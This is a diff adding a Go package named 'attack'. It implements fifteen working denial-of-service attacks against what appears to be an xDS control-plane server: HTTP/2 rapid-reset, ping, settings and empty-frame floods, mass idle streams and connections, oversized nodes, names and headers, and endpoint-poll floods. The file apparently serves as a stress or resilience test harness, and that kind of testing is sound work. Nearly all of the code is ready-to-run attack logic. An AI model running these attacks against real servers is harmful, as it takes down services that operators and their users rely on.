@@ -1,0 +1,315 @@
+package attack
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"strconv"
+	"strings"
+	"sync"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// Attack is one way to harm a server.
+type Attack struct {
+	Name  string
+	Title string
+	REST  bool // it is against a server of polls
+	// run goes on until ctx ends. size is how much of it there is to be: 1 in full. It calls ready
+	// once, when what it does is under way.
+	run func(ctx context.Context, addr string, size float64, ready func())
+}
+
+// All are the attacks that there are.
+func All() []Attack {
+	return []Attack{
+		{Name: "nodes-large", Title: "10 streams with nodes of 15 MiB", run: largeNodes},
+		{Name: "unfinished", Title: "messages of 16 MiB, unfinished, on 200 streams", run: unfinished},
+		{Name: "streams", Title: "100,000 streams without a request", run: idleStreams},
+		{Name: "nodes-many", Title: "10,000 nodes", run: manyNodes},
+		{Name: "types", Title: "invented types", run: inventedTypes},
+		{Name: "names-many", Title: "requests for 1,000,000 names", run: manyNames},
+		{Name: "names-long", Title: "names of 60 KiB", run: longNames},
+		{Name: "loop", Title: "subscribing and unsubscribing", run: subscribing},
+		{Name: "polls", Title: "1,000 polls of 20 MiB", REST: true, run: polls},
+		{Name: "connections", Title: "10,000 connections that say nothing", run: connections},
+		{Name: "pings", Title: "pings", run: flood(func(w *wire) error { return w.framer.WritePing(false, [8]byte{}) })},
+		{Name: "settings", Title: "settings", run: flood(func(w *wire) error { return w.framer.WriteSettings() })},
+		{Name: "resets", Title: "streams that are reset at once", run: flood(reset)},
+		{Name: "empty", Title: "empty frames", run: onStream(func(w *wire, stream uint32) error { return w.framer.WriteData(stream, false, nil) })},
+		{Name: "headers", Title: "headers of 1 MiB", run: flood(largeHeaders)},
+	}
+}
+
+// Run carries an attack out until ctx ends, and says "ready" when it is under way.
+func Run(ctx context.Context, name, addr string, size float64, out io.Writer) error {
+	for _, a := range All() {
+		if a.Name == name {
+			var once sync.Once
+			a.run(ctx, addr, size, func() { once.Do(func() { _, _ = fmt.Fprintln(out, Ready) }) })
+			return nil
+		}
+	}
+	return fmt.Errorf("there is no attack %q", name)
+}
+
+// Ready is the line that an attacker writes when its attack is under way.
+const Ready = "ready"
+
+// of is a share of a number, at least 1.
+func of(size float64, n int) int { return max(1, int(size*float64(n))) }
+
+// parallel does something n times at once until ctx ends, each again when it fails.
+func parallel(ctx context.Context, n int, something func(ctx context.Context, i int) error) {
+	var all sync.WaitGroup
+	for i := range n {
+		all.Go(func() { again(ctx, func(ctx context.Context) error { return something(ctx, i) }) })
+	}
+	all.Wait()
+}
+
+// largeNodes presents nodes that are as large as requests may be, again and again.
+func largeNodes(ctx context.Context, addr string, size float64, ready func()) {
+	const entries = 700_000 // 15 MiB
+	parallel(ctx, 10, func(ctx context.Context, i int) error {
+		r := request{node: largeNode("n"+strconv.Itoa(i), of(size, entries)), typeURL: clusterType, subscribe: []string{"a"}}
+		text := r.encode()
+		return connected(addr, func(ctx context.Context, w *wire) error {
+			stream, err := w.open()
+			if err != nil {
+				return err
+			}
+			for {
+				if err := w.send(ctx, stream, text); err != nil {
+					return err
+				}
+				ready()
+			}
+		})(ctx)
+	})
+}
+
+// unfinished sends all but the last byte of messages.
+func unfinished(ctx context.Context, addr string, size float64, ready func()) {
+	const bytes = 16<<20 - 1
+	whole := message(make([]byte, of(size, bytes)))
+	again(ctx, connected(addr, func(ctx context.Context, w *wire) error {
+		for range 200 {
+			stream, err := w.open()
+			if err != nil {
+				return err
+			}
+			if err := w.send(ctx, stream, whole[:len(whole)-1]); err != nil {
+				return err
+			}
+		}
+		ready()
+		return w.rest(ctx)
+	}))
+}
+
+// idleStreams opens streams and says nothing.
+func idleStreams(ctx context.Context, addr string, size float64, ready func()) {
+	const each = 1000
+	var all sync.WaitGroup
+	var opened sync.WaitGroup
+	n := of(size, 100)
+	opened.Add(n)
+	for range n {
+		all.Go(func() {
+			var once sync.Once
+			again(ctx, connected(addr, func(ctx context.Context, w *wire) error {
+				for range each {
+					if _, err := w.open(); err != nil {
+						return err
+					}
+				}
+				once.Do(opened.Done)
+				return w.rest(ctx)
+			}))
+		})
+	}
+	all.Go(func() {
+		done := make(chan struct{})
+		go func() { opened.Wait(); close(done) }()
+		select {
+		case <-done:
+			ready()
+		case <-ctx.Done():
+		}
+	})
+	all.Wait()
+}
+
+// manyNodes is so many clients, each with a node of its own, on a few connections.
+func manyNodes(ctx context.Context, addr string, size float64, ready func()) {
+	const each = 100
+	parallel(ctx, of(size, 100), func(ctx context.Context, i int) error {
+		return connected(addr, func(ctx context.Context, w *wire) error {
+			for k := range each {
+				stream, err := w.open()
+				if err != nil {
+					return err
+				}
+				r := request{node: node(fmt.Sprintf("node-%d-%d", i, k)), typeURL: clusterType, subscribe: []string{"*"}}
+				if err := w.send(ctx, stream, r.encode()); err != nil {
+					return err
+				}
+			}
+			ready()
+			return w.rest(ctx)
+		})(ctx)
+	})
+}
+
+// streaming sends requests on one stream as fast as the server takes them.
+func streaming(next func(n int) request) func(context.Context, string, float64, func()) {
+	return func(ctx context.Context, addr string, _ float64, ready func()) {
+		n := 0
+		again(ctx, connected(addr, func(ctx context.Context, w *wire) error {
+			stream, err := w.open()
+			if err != nil {
+				return err
+			}
+			first := true
+			for {
+				r := next(n)
+				if first {
+					r.node = node("a")
+				}
+				first = false
+				if err := w.send(ctx, stream, r.encode()); err != nil {
+					return err
+				}
+				n++
+				ready()
+			}
+		}))
+	}
+}
+
+func inventedTypes(ctx context.Context, addr string, size float64, ready func()) {
+	streaming(func(n int) request {
+		return request{typeURL: "type.googleapis.com/invented.T" + strconv.Itoa(n), subscribe: []string{"*"}}
+	})(ctx, addr, size, ready)
+}
+
+func manyNames(ctx context.Context, addr string, size float64, ready func()) {
+	list := names("name-", of(size, 1_000_000))
+	streaming(func(int) request { return request{typeURL: clusterType, subscribe: list} })(ctx, addr, size, ready)
+}
+
+func longNames(ctx context.Context, addr string, size float64, ready func()) {
+	long := strings.Repeat("x", 60<<10)
+	streaming(func(n int) request {
+		return request{typeURL: clusterType, subscribe: names(long+strconv.Itoa(n)+"-", 50)}
+	})(ctx, addr, size, ready)
+}
+
+// subscribing asks for names that everybody has, and for others, and lets go of them.
+func subscribing(ctx context.Context, addr string, size float64, ready func()) {
+	streaming(func(n int) request {
+		r := request{typeURL: clusterType}
+		list := append(names("cluster-0000", 100), "other-"+strconv.Itoa(n/2), "*")
+		if n%2 == 0 {
+			r.subscribe = list
+		} else {
+			r.unsubscribe = list
+		}
+		return r
+	})(ctx, addr, size, ready)
+}
+
+// polls asks for all endpoints, without end, as clients that know nothing do: nodes of one cluster,
+// which the server may know.
+func polls(ctx context.Context, addr string, size float64, ready func()) {
+	n := of(size, 1000)
+	client := &http.Client{Transport: &http.Transport{MaxConnsPerHost: n, MaxIdleConnsPerHost: n}}
+	parallel(ctx, n, func(ctx context.Context, i int) error {
+		body := fmt.Sprintf(`{"node":{"id":"poller-%d","cluster":"bench"},"resource_names":["*"]}`, i)
+		r, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+addr+"/v3/discovery:endpoints", strings.NewReader(body))
+		if err != nil {
+			return err
+		}
+		answer, err := client.Do(r)
+		if err != nil {
+			return err
+		}
+		ready()
+		_, err = io.Copy(io.Discard, answer.Body)
+		_ = answer.Body.Close()
+		return err
+	})
+}
+
+// connections are those that say nothing, not even that they speak HTTP/2.
+func connections(ctx context.Context, addr string, size float64, ready func()) {
+	const total = 10_000
+	var open []net.Conn
+	for range of(size, total) {
+		if conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr); err == nil { // else the server is full
+			open = append(open, conn)
+		}
+	}
+	ready()
+	<-ctx.Done()
+	for _, conn := range open {
+		_ = conn.Close()
+	}
+}
+
+// flood does one thing on a connection as fast as the server takes it.
+func flood(one func(*wire) error) func(context.Context, string, float64, func()) {
+	return func(ctx context.Context, addr string, _ float64, ready func()) {
+		again(ctx, connected(addr, func(_ context.Context, w *wire) error {
+			for {
+				if err := one(w); err != nil {
+					return err
+				}
+				ready()
+			}
+		}))
+	}
+}
+
+// onStream does one thing on a stream as fast as the server takes it.
+func onStream(one func(*wire, uint32) error) func(context.Context, string, float64, func()) {
+	return func(ctx context.Context, addr string, _ float64, ready func()) {
+		again(ctx, connected(addr, func(_ context.Context, w *wire) error {
+			stream, err := w.open()
+			for err == nil {
+				err = one(w, stream)
+				ready()
+			}
+			return err
+		}))
+	}
+}
+
+// reset opens a stream and ends it.
+func reset(w *wire) error {
+	stream, err := w.open()
+	if err != nil {
+		return err
+	}
+	w.mu.Lock()
+	delete(w.window, stream)
+	w.mu.Unlock()
+	return w.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
+}
+
+// largeHeaders opens a stream with headers that nobody can compress.
+func largeHeaders(w *wire) error {
+	noise := make([]byte, 512<<10)
+	if _, err := rand.Read(noise); err != nil {
+		return err
+	}
+	_, err := w.open(hpack.HeaderField{Name: "x-noise", Value: hex.EncodeToString(noise)})
+	return err
+}
